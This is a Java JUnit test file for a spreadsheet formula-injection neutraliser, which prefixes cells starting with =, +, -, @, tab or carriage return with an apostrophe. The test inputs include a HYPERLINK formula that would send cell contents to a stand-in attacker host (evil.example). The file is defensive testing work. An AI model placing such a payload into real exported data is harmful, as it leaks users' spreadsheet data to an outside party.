package org.ketaminetraining.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class FormulaNeutraliserTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\t=cmd", "\r=cmd",
        "=HYPERLINK(\"http://evil.example/?\"&A1)"})
    void aCellThatASpreadsheetWouldEvaluateGetsAnApostrophe(String cell) {
        assertThat(FormulaNeutraliser.neutralise(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Anna Petrova", "2026-11-27", "a=b", "x-ray", " =1", "'already", "Łukasiewicz"})
    void ordinaryTextStaysAsItIs(String cell) {
        assertThat(FormulaNeutraliser.neutralise(cell)).isEqualTo(cell);
    }

    @Test
    void nothingBecomesTheEmptyCell() {
        assertThat(FormulaNeutraliser.neutralise(null)).isEmpty();
        assertThat(FormulaNeutraliser.neutralise("")).isEmpty();
    }
}
